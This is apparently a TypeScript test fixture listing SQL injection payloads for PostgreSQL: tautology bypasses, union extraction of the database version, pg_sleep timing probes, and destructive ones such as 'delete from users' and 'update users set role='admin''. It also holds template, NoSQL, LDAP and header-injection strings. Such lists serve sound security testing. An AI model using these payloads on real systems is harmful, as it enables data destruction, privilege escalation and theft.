/** Seconds for which a payload that reaches the database makes it sleep. */
export const napSeconds = 3

const nap = `pg_sleep(${napSeconds})`

/** A word that no row has: a search for it finds nothing. */
export const nonsense = 'qxzjvw'

/** Values that turn into SQL, for each place in a statement: text, number, order by, like, array, comment. */
export const payloads: readonly string[] = [
  `${nonsense}'`,
  `${nonsense}"`,
  `${nonsense}' or '1'='1`,
  `${nonsense}' or 1=1 --`,
  `${nonsense}') or ('1'='1`,
  `${nonsense}%' or 'a' like 'a%`,
  `${nonsense}'; select ${nap}; --`,
  `${nonsense}' || (select ${nap}) || '`,
  `${nonsense}' and 1=(select 1 from ${nap}) --`,
  `${nonsense}' union select null,null,version() --`,
  `${nonsense}'; delete from users; --`,
  `${nonsense}'; update users set role='admin'; --`,
  `(select ${nap})`,
  `1;select ${nap}`,
  `1 and 1=(select 1 from ${nap})`,
  `1-(select case when 1=1 then 1 end from ${nap})`,
  `id;select ${nap}`,
  `price,(select ${nap})`,
  `(case when (select 1 from ${nap}) is null then name else price end)`,
  `name desc, (select 1/(select 0))`,
  `$$;select ${nap};$$`,
  `{${nonsense}}`,
  `${nonsense}\\`,
  `${nonsense}\\' or 1=1 --`,
  `${nonsense}/**/or/**/1=1`,
  `${nonsense}' collate "C`,
  `E'\\\\x27' or 1=1`,
  `\u02bc or 1=1 --`,
  '{{7*7}}<%= 7*7 %>#{7*7}',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  `${nonsense}\r\nSet-Cookie: role=admin`,
  '1e309',
  '-1 or 1=1',
  'null',
  '%',
  '_',
]
